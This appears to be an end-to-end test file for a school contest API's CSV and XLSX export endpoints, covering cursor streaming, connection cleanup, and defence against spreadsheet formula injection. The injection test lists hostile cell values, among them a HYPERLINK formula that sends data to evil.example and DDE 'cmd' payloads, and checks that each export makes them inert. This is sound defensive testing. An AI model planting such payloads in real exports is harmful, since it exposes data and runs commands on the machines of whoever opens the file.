import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { request } from 'node:http';
import { AddressInfo } from 'node:net';
import { EXPORT_BATCH_ROWS } from '../../src/core/database/export-cursor';
import { addEdition, registerEntries } from '../support/factories';
import { eventually } from '../support/eventually';
import { TestApp } from '../support/test-app';

/** More than two cursor batches, each with a long summary so that the CSV outgrows what sockets buffer. */
const ENTRIES = EXPORT_BATCH_ROWS * 2 + 345;
const SCHOOLS = ['ST-KS-01', 'ST-KS-02', 'ST-MT-01'];

describe('entry exports stream from a cursor (e2e)', () => {
  let t: TestApp;
  let editionId: string;

  const exportConnections = async () =>
    Number((await t.db.source.query(`SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = 'contest-export' AND datname = current_database()`))[0].n);

  beforeAll(async () => {
    t = await TestApp.start({ workers: false });
    const edition = await addEdition(t.db.source, t.world, { number: 11 });
    editionId = t.world.editions.get(edition)!.edition.id;
    await registerEntries(
      t.db.source,
      t.world,
      Array.from({ length: ENTRIES }, (_, i) => ({
        edition,
        school: SCHOOLS[i % SCHOOLS.length],
        reference: `EX-${String(i).padStart(5, '0')}`,
        field: 'MT',
        title: `Sản phẩm số ${i}`,
        summary: `Tóm tắt ${i}: ${'máy tưới cây tự động theo độ ẩm của đất, '.repeat(60)}`,
      })),
    );
  });
  afterAll(() => t.stop());

  it('writes every entry of a list many batches long, in list order, as CSV and as XLSX', async () => {
    const province = t.as('province@test.vn');
    const csv = await province.get('/entries/export.csv', { query: { editionId } });
    expect(csv.statusCode).toBe(200);
    const rows: string[][] = parse(csv.body.replace(/^\uFEFF/, ''));
    expect(rows[0].slice(0, 3)).toEqual(['Mã đơn vị', 'Tên đơn vị', 'Mã hồ sơ']);
    const keys = rows.slice(1).map((row) => `${row[0]}|${row[2]}`);
    expect(keys).toHaveLength(ENTRIES);
    expect(new Set(keys).size).toBe(ENTRIES);
    // The list's own order (school by school along the tree, then reference), walked page by page.
    const listed: string[] = [];
    for (let cursor: string | undefined; ;) {
      const page = await province.get('/entries', { query: { editionId, pageSize: '500', ...(cursor ? { cursor } : {}) } });
      listed.push(...page.json().items.map((e: { unit: { code: string }; reference: string }) => `${e.unit.code}|${e.reference}`));
      cursor = page.json().nextCursor ?? undefined;
      if (!cursor) break;
    }
    expect(keys).toEqual(listed);

    const xlsx = await province.get('/entries/export.xlsx', { query: { editionId } });
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    expect(sheet.rowCount).toBe(ENTRIES + 1);
    expect((sheet.getRow(ENTRIES + 1).values as unknown[]).slice(1, 4)).toEqual(rows[ENTRIES].slice(0, 3));
    expect(await exportConnections()).toBe(0);
  });

  it('holds the query open only while the client reads, and stops it when the client goes away', async () => {
    await t.app.listen(0, '127.0.0.1');
    const { port } = t.app.getHttpServer().address() as AddressInfo;
    const token = await t.token('province@test.vn');
    const req = request({ host: '127.0.0.1', port, path: `/entries/export.csv?editionId=${editionId}`, headers: { authorization: `Bearer ${token}` } });
    const response = await new Promise<import('node:http').IncomingMessage>((resolve, reject) => req.on('response', resolve).on('error', reject).end());
    expect(response.statusCode).toBe(200);
    // The client reads nothing more: the export waits for it instead of buffering the rest.
    response.pause();
    await eventually('the export to wait for its client with its cursor open', async () => (await exportConnections()) === 1);
    req.destroy();
    await eventually('the export connection to be gone', async () => (await exportConnections()) === 0);
  });

  // A school titled its entry =HYPERLINK(…): whoever opens an export in a spreadsheet program must see text, never run it.
  it('writes no cell a spreadsheet program would run, in every CSV the API serves', async () => {
    const hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")', "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", '@SUM(1+1)'];
    const edition = await addEdition(t.db.source, t.world, { number: 12 });
    const { edition: row, stages } = t.world.editions.get(edition)!;
    const entry = await t.as('school1@test.vn').post(`/editions/${row.id}/entries`, {
      title: hostile[0],
      fieldCode: 'MT',
      summary: hostile[1],
      reference: 'CSV-1',
      contact: { name: hostile[3], email: 'gv@test.vn' },
      authors: [{ fullName: hostile[2], birthDate: '2008-03-05', classOrJob: hostile[3] }],
    });
    expect(entry.statusCode).toBe(201);
    expect((await t.as('admin@test.vn').patch(`/units/${t.unitId('ST-MT-01')}`, { name: hostile[0] })).statusCode).toBe(200);
    // A published list of that entry, written as publishing would (the list's content is a copy taken then).
    const [admin] = await t.db.source.query(`SELECT id FROM users WHERE email = 'admin@test.vn'`);
    const [list] = await t.db.source.query('INSERT INTO prize_lists (stage_id, unit_id, unit_path) VALUES ($1, $2, $3) RETURNING id', [
      stages[0].id,
      t.unitId('ST-KS-01'),
      t.world.units.get('ST-KS-01')!.path,
    ]);
    const [version] = await t.db.source.query(`INSERT INTO prize_list_versions (prize_list_id, version, phase, published_by, levels) VALUES ($1, 1, 'final', $2, $3) RETURNING id`, [
      list.id,
      admin.id,
      JSON.stringify([{ level: 'first', name: hostile[3] }]),
    ]);
    await t.db.source.query(
      `INSERT INTO prize_list_items (version_id, entry_id, position, rank, score, prize_code, prize_name, prize_money, field_code, field_name, reference, title, authors, school_name, district_name, reason)
       VALUES ($1, $2, 1, 1, 93, 'first', $3, 5000000, 'MT', $4, 'CSV-1', $5, $6, $7, $8, '{}')`,
      [version.id, entry.json().id, hostile[3], hostile[1], hostile[0], hostile[2], hostile[0], hostile[3]],
    );

    const document = (await t.request('GET', '/docs-json')).json();
    const csvOperations = Object.entries<Record<string, { responses?: Record<string, { content?: object }> }>>(document.paths).flatMap(([path, operations]) =>
      Object.entries(operations)
        .filter(([, operation]) => Object.keys(operation.responses?.['200']?.content ?? {}).includes('text/csv'))
        .map(([method]) => `${method.toUpperCase()} ${path}`),
    );
    const downloads: Record<string, () => Promise<{ statusCode: number; body: string }>> = {
      'GET /entries/export.csv': () => t.as('province@test.vn').get('/entries/export.csv', { query: { editionId: row.id } }),
      'GET /units/export.csv': () => t.as('admin@test.vn').get('/units/export.csv'),
      'GET /editions/{editionId}/entries/import-template.csv': () => t.as('school1@test.vn').get(`/editions/${row.id}/entries/import-template.csv`),
      'GET /public/prize-lists/{id}/export.csv': () => t.request('GET', `/public/prize-lists/${list.id}/export.csv`),
    };
    // A CSV route added later fails here until its download is checked too.
    expect(Object.keys(downloads).sort()).toEqual(csvOperations.sort());

    const runnable = /^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/;
    const seen = new Set<string>();
    for (const [operation, download] of Object.entries(downloads)) {
      const response = await download();
      expect({ operation, status: response.statusCode }).toEqual({ operation, status: 200 });
      const cells: string[] = parse(response.body.replace(/^\uFEFF/, ''), { relax_column_count: true }).flat();
      expect({ operation, runnable: cells.filter((cell) => runnable.test(cell)) }).toEqual({ operation, runnable: [] });
      for (const cell of cells) if (cell.startsWith("'")) seen.add(cell.slice(1));
    }
    // Each hostile text reached a CSV, kept whole behind the apostrophe that makes it inert.
    expect(hostile.filter((text) => !seen.has(text))).toEqual([]);
  });
});
